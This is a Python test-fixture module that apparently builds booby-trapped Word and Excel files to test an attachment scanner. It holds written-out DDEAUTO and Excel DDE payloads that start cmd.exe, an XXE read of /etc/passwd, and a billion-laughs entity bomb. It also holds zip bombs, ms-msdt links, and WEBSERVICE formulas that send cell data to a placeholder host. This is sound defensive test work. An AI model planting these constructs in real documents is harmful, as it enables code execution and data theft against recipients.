"""Office files that fetch, start, hide, tell of their author, or explode."""

import io
import zipfile

from tests.attachments import sample_files as make
from tests.attachments.corpus import CANARY, DAMAGED, MACROS, MISMATCHED, PAGE, PROTECTED, TOO_MUCH, WORD
from tests.attachments.corpus.pictures import gif, jpeg, png, saved, with_text

PATH = f"C:\\Users\\{WORD}\\x.jpg"
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + "x" * 100 + '">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)) + "]><x>&i;</x>"
)  # fmt: skip


def word(**given):
    """A Word document to be made later."""
    return lambda: make.docx(**given)


def book(**given):
    """A workbook to be made later."""
    return lambda: make.xlsx(**given)


def linked(kind, target, content=CANARY, body="", mode=None):
    """A Word document with a part, or an address, behind a relation of this kind; ``body`` names it r9."""
    row = ("r9", kind, target, mode) if mode else ("r9", kind, target)
    return word(rows=(row,), body=body, extra=None if mode else {f"word/{target}": content})


def field(*instructions):
    """A field whose instruction is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return word(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def nested_field(outer, inner):
    """A field in the instruction of another."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    return word(
        body=f"<w:p><w:r>{begin}<w:instrText>{outer}</w:instrText>{begin}<w:instrText>{inner}</w:instrText>{end}"
        f"<w:instrText>{WORD}</w:instrText>{end}</w:r></w:p>"
    )


def formula(text, attributes=""):
    """A workbook with a formula."""
    return book(cells=f'<c r="B1"><f{attributes}>{text}</f><v>1</v></c>')


def repacked(change):
    """A Word document whose container was changed."""

    def made():
        out = io.BytesIO(make.docx())
        with zipfile.ZipFile(out, "a") as container:
            change(container)
        return out.getvalue()

    return made


def encrypted():
    """A Word document whose parts are marked as encrypted."""
    data = bytearray(make.docx())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) != -1:
        data[at + 8] |= 1
    return bytes(data)


def lying():
    """A Word document whose large part says that it is small."""
    data = make.docx({"word/document.xml": b"<x>" + bytes(60 << 20) + b"</x>"})
    return data.replace((60 << 20 | 7).to_bytes(4, "little"), (100).to_bytes(4, "little"))


PICTURES = (
        ("JPEG comment", "jpg", jpeg(CANARY)), ("JPEG tail", "jpg", jpeg(tail=CANARY)), ("no JPEG", "jpg", PAGE),
        ("PNG text", "png", with_text(True)),
        ("PNG tail", "png", png(tail=CANARY)), ("broken PNG", "png", png()[:60] + CANARY), ("GIF comment", "gif", gif(tail=CANARY)),
        ("TIFF words", "tif", saved("TIFF", tiffinfo={270: WORD, 315: WORD})), ("BMP tail", "bmp", saved("BMP") + CANARY),
        ("EMF", "emf", b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + CANARY), ("WMF", "wmf", b"\xd7\xcd\xc6\x9a" + bytes(18) + CANARY),
        ("SVG", "svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + CANARY + b"</script></svg>"),
        ("bomb", "png", make.bomb(50_000, 50_000, rows=5) + CANARY), 
    ("GIF bomb", "gif", b"GIF89a\xff\xff\xff\xff" + gif()[10:] + CANARY),
)  # fmt: skip
CASES = {
    "Word with its author": ("a.docx", word(extra={"docProps/core.xml": f"<creator>{WORD}</creator>"}), ""),
    "Word with its company": ("a.docx", word(extra={"docProps/app.xml": f"<Company>{WORD}</Company>"}), ""),
    "Word with own properties": ("a.docx", word(extra={"docProps/custom.xml": WORD}), ""),
    "Word with a thumbnail": ("a.docx", word(extra={"docProps/thumbnail.jpeg": jpeg(CANARY)}), ""),
    "Word with custom XML": ("a.docx", linked("customXml", "item1.xml", f"<x>{WORD}</x>"), ""),
    "Word with people": ("a.docx", linked("people", "people.xml", f"<x>{WORD}</x>"), ""),
    "Word with building blocks": ("a.docx", linked("glossaryDocument", "glossary.xml", f"<x>{WORD}</x>"), ""),
    "Word with a signature": ("a.docx", word(extra={"_xmlsignatures/sig1.xml": WORD}), ""),
    "Word with a part nobody names": ("a.docx", word(extra={"word/evil.html": PAGE}), ""),
    "Word with the author of a change": ("a.docx", word(body=f'<w:p><w:del w:id="9" w:author="{WORD}" w:initials="{WORD}"/></w:p>'), ""),
    "Word with another prefix": (
        "a.docx", word(body=f'<q:p xmlns:q="{make.WORD}"><q:ins q:id="9" q:author="{WORD}"/></q:p>'), ""),
    "Word with entities in its words": (
        "a.docx", word(body=f'<w:p><w:ins w:id="9" w:author="{"".join(f"&#{ord(c)};" for c in WORD)}"/></w:p>'), ""),
    "Word in UTF-16": (
        "a.docx", word(extra={"word/comments.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:comments xmlns:w="{make.WORD}"><w:comment '
                              f'w:author="{WORD}"/></w:comments>'.encode("utf-16")}), ""),
    "Word with session numbers": ("a.docx", word(body=f'<w:p w:rsidR="{WORD}" w:rsidRDefault="{WORD}"/>'), ""),
    "Word with variables": ("a.docx", word(settings=f'<w:docVars><w:docVar w:name="x" w:val="{WORD}"/></w:docVars>'), ""),
    "Word with a data source": ("a.docx", word(settings=f'<w:mailMerge><w:connectString w:val="{WORD}"/></w:mailMerge>'), ""),
    "Word with a comment in its code": ("a.docx", word(body=f"<!-- {WORD} -->"), ""),
    "Word with an instruction in its code": ("a.docx", word(body=f"<?evil {WORD}?>"), ""),
    "Word with the path of a picture": ("a.docx", word(body=f'<w:p><wp:docPr xmlns:wp="x" id="1" name="x" descr="{PATH}"/></w:p>'), ""),
    "Word with the name of a picture": ("a.docx", word(body=f'<w:p><pic:cNvPr xmlns:pic="x" id="1" name="{WORD}.jpg"/></w:p>'), ""),
    "Word with an outside picture": (
        "a.docx", linked("image", f"http://{WORD}/x.png", body='<a:blip r:link="r9"/>', mode="External"), ""),
    "Word with an outside picture, disguised": (
        "a.docx", linked("image", f"http://{WORD}/x.png", body='<a:blip r:link="r9"/>', mode="&#69;xternal"), ""),
    "Word with an outside template": ("a.docx", linked("attachedTemplate", f"http://{WORD}/x.dotm", mode="External"), ""),
    "Word with an outside frame": ("a.docx", linked("frame", f"http://{WORD}/x", body='<w:frame r:id="r9"/>', mode="External"), ""),
    "Word with an outside object": ("a.docx", linked("oleObject", f"mhtml:http://{WORD}!x", mode="External"), ""),
    "Word with an outside document": (
        "a.docx", linked("subDocument", f"http://{WORD}/x", body='<w:subDoc r:id="r9"/>', mode="External"), ""),
    "Word with a link to a share": (
        "a.docx", linked("hyperlink", f"\\\\{WORD}\\x", body='<w:hyperlink r:id="r9"/>', mode="External"), ""),
    "Word with a link to a file": ("a.docx", linked("hyperlink", f"file:///{WORD}", body='<w:hyperlink r:id="r9"/>', mode="External"), ""),
    "Word with a link to a script": ("a.docx", linked("hyperlink", f"javascript:{WORD}", mode="External"), ""),
    "Word with a link to a handler": ("a.docx", linked("hyperlink", f"ms-msdt:{WORD}", mode="External"), ""),
    "Word with an object": (
        "a.docx", linked("oleObject", "embeddings/o.bin", body=f'<o:OLEObject xmlns:o="o" ProgID="{WORD}" r:id="r9"/>'), ""),
    "Word with a file in it": ("a.docx", linked("package", "embeddings/x.xlsx", make.xlsx() + CANARY), ""),
    "Word with a page taken in": ("a.docx", linked("aFChunk", "chunk.html", PAGE, body='<w:altChunk r:id="r9"/>'), ""),
    "Word with ActiveX": ("a.docx", linked("control", "activeX/a.xml", f"<x>{WORD}</x>", body='<w:control r:id="r9"/>'), ""),
    "Word with own buttons": ("a.docx", word(extra={"customUI/customUI.xml": WORD}), ""),
    "Word with a font in it": ("a.docx", linked("font", "fonts/f.odttf"), ""),
    "Word with a zip bomb in it": ("a.docx", linked("package", "embeddings/x.zip", make.zipped({"x": bytes(40 << 20)}) + CANARY), ""),
    "Word with a field that calls": ("a.docx", field(f'DDEAUTO c:\\\\cmd.exe "/k {WORD}"'), ""),
    "Word with a field that calls, in pieces": ("a.docx", field("DD", "EAU", f"TO cmd {WORD}"), ""),
    "Word with a field that calls, in small letters": ("a.docx", field(f" dde cmd {WORD}"), ""),
    "Word with a field that quotes": ("a.docx", nested_field("QUOTE 68 68 69", f"DDEAUTO {WORD}"), ""),
    "Word with a field in a field": ("a.docx", nested_field("SET x ", f"INCLUDETEXT {WORD}"), ""),
    "Word with a field that fetches a picture": ("a.docx", field(f'INCLUDEPICTURE "http://{WORD}" \\d'), ""),
    "Word with a field that fetches text": ("a.docx", field(f'INCLUDETEXT "{WORD}"'), ""),
    "Word with a field that links": ("a.docx", field(f"LINK Excel.Sheet {WORD}"), ""),
    "Word with a field that starts a macro": ("a.docx", field(f"MACROBUTTON {WORD} x"), ""),
    "Word with a field that goes to a file": ("a.docx", field(f'HYPERLINK "file://{WORD}"'), ""),
    "Word with a simple field": ("a.docx", word(body=f'<w:fldSimple w:instr="DDEAUTO {WORD}"/>'), ""),
    "Word with an instruction outside any field": ("a.docx", word(body=f"<w:p><w:r><w:instrText>DDE {WORD}</w:instrText></w:r></w:p>"), ""),
    "Word with a macro": ("a.docx", word(extra={"word/vbaProject.bin": CANARY}), MACROS),
    "Word with a macro under another name": ("a.docx", linked("vbaProject", "x.bin"), MACROS),
    "Word that may have macros": (
        "a.docx", lambda: make.docx({"[Content_Types].xml": make.content_types(
            word__document="application/vnd.ms-word.document.macroEnabled.main+xml")}), MACROS),
    **{f"Word with a picture: {what}": ("a.docx", linked("image", f"media/p.{end}", data, body='<a:blip r:embed="r9"/>'), "")
       for what, end, data in PICTURES},
    "Word of a billion laughs": ("a.docx", word(extra={"word/comments.xml": BILLION}), DAMAGED),
    "Word that reads a file": (
        "a.docx", word(extra={"word/comments.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}), DAMAGED),
    "Word with an outside type": ("a.docx", word(extra={"word/comments.xml": '<!DOCTYPE x SYSTEM "http://x/x.dtd"><x/>'}), DAMAGED),
    "Word of deep brackets": ("a.docx", word(extra={"word/comments.xml": "<a>" * 5000 + "</a>" * 5000}), DAMAGED),
    "Word of no XML": ("a.docx", word(extra={"word/document.xml": CANARY}), DAMAGED),
    "Word that unpacks to too much": ("a.docx", word(extra={"word/big.bin": bytes(210 << 20)}), TOO_MUCH),
    "Word whose text unpacks to too much": ("a.docx", word(extra={"word/document.xml": b"<x>" + bytes(60 << 20) + b"</x>"}), TOO_MUCH),
    "Word that lies about its size": ("a.docx", lying, DAMAGED),
    "Word of very many parts": ("a.docx", word(extra={f"word/{number}.xml": b"" for number in range(5100)}), TOO_MUCH),
    "Word with two parts of one name": ("a.docx", repacked(lambda container: container.writestr("Word/Document.xml", "<x/>")), DAMAGED),
    "Word with a part outside": ("a.docx", linked("comments", "../../../../etc/passwd", f"<x>{WORD}</x>"), ""),
    "Word with a part of a Windows path": ("a.docx", linked("comments", "..\\evil.xml", f"<x>{WORD}</x>"), ""),
    "Word that refers to itself": ("a.docx", word(rows=(("r9", "header", "document.xml"),), extra={"word/x.html": PAGE}), ""),
    "Word whose parts are locked": ("a.docx", encrypted, PROTECTED),
    "Word with a remark on its container": ("a.docx", repacked(lambda container: setattr(container, "comment", CANARY)), ""),
    "Word with bytes in front": ("a.docx", lambda: CANARY + make.docx(), MISMATCHED),
    "Word with a program in front": ("a.docx", lambda: make.EXE + make.docx(), MISMATCHED),
    "Word with a page behind": ("a.docx", lambda: make.docx() + PAGE, ""),
    "Word cut in half": ("a.docx", lambda: make.docx()[:1500], DAMAGED),
    "Word without relations": ("a.docx", lambda: make.zipped({"[Content_Types].xml": make.content_types(
        word__document="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), "x": CANARY}), DAMAGED),
    "Excel as Word": ("a.docx", make.xlsx, MISMATCHED),
    "Excel with a link to another book": ("a.xlsx", formula(f"[1]{WORD}!A1"), ""),
    "Excel with a path to another book": ("a.xlsx", formula(f"'C:\\{WORD}\\[x.xlsx]S'!A1"), ""),
    "Excel that fetches": ("a.xlsx", formula(f'_xlfn.WEBSERVICE("http://{WORD}/"&amp;A1)'), ""),
    "Excel that fetches, disguised": ("a.xlsx", formula(f"_xlfn.web&#83;ervice  (CONCAT(A1,{WORD}))"), ""),
    "Excel that fetches a picture": ("a.xlsx", formula(f'_xlfn.IMAGE("{WORD}")'), ""),
    "Excel that starts a program": ("a.xlsx", formula(f"cmd|'/C {WORD}'!A0"), ""),
    "Excel that links out": ("a.xlsx", formula(f'HYPERLINK("{WORD}"&amp;A1,"点这里")'), ""),
    "Excel that calls": ("a.xlsx", formula(f'CALL("{WORD}","x")'), ""),
    "Excel that asks a server": ("a.xlsx", formula(f'RTD("{WORD}",,"x")'), ""),
    "Excel with a shared formula": ("a.xlsx", formula(f'WEBSERVICE("{WORD}")', ' t="shared" ref="B1:B2" si="0"'), ""),
    "Excel with a name that reaches out": (
        "a.xlsx", book(book=f'<definedNames><definedName name="x">[1]{WORD}!A1</definedName></definedNames>'), ""),
    "Excel with a rule that fetches": (
        "a.xlsx", book(
            sheet_end=f'<conditionalFormatting><cfRule><formula>WEBSERVICE("{WORD}")</formula></cfRule></conditionalFormatting>'), ""),
    "Excel with a check that fetches": (
        "a.xlsx", book(
            sheet_end=f"<dataValidations><dataValidation><formula1>[2]{WORD}!A1</formula1></dataValidation></dataValidations>"), ""),
    "Excel with an outside book": ("a.xlsx", book(rows=(("r9", "externalLink", "x.xml"),), extra={"xl/x.xml": f"<x>{WORD}</x>"},
                                                  book='<externalReferences><externalReference r:id="r9"/></externalReferences>'), ""),
    "Excel with a connection": ("a.xlsx", book(rows=(("r9", "connections", "x.xml"),), extra={"xl/x.xml": f"<x>{WORD}</x>"}), ""),
    "Excel with people": ("a.xlsx", book(rows=(("r9", "person", "x.xml"),), extra={"xl/x.xml": f"<x>{WORD}</x>"}), ""),
    "Excel with the views of its users": (
        "a.xlsx", book(book=f'<customWorkbookViews><customWorkbookView name="{WORD}"/></customWorkbookViews>'), ""),
    "Excel with a reservation": ("a.xlsx", book(book=f'<fileSharing userName="{WORD}"/>'), ""),
    "Excel with its folder": ("a.xlsx", book(book=f'<absPath url="{PATH}"/>'), ""),
    "Excel with revision marks": (
        "a.xlsx", book(book=f'<x xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" xr:uid="{WORD}"/>'), ""),
    "Excel with a control": ("a.xlsx", book(sheet_end=f'<controls><control name="{WORD}"/></controls>'), ""),
    "Excel with an object": ("a.xlsx", book(sheet_end=f'<oleObjects><oleObject progId="{WORD}"/></oleObjects>'), ""),
    "Excel with old macros": ("a.xlsx", book(extra={"xl/macrosheets/sheet1.xml": CANARY}), MACROS),
    "Excel with old macros elsewhere": ("a.xlsx", book(rows=(("r9", "xlMacrosheet", "x.xml"),), extra={"xl/x.xml": CANARY}), MACROS),
    "Excel with a new macro": ("a.xlsx", book(extra={"xl/vbaProject.bin": CANARY}), MACROS),
    "Excel cut in half": ("a.xlsx", lambda: make.xlsx()[:1200], DAMAGED),
    "Word as Excel": ("a.xlsx", make.docx, MISMATCHED),
}  # fmt: skip
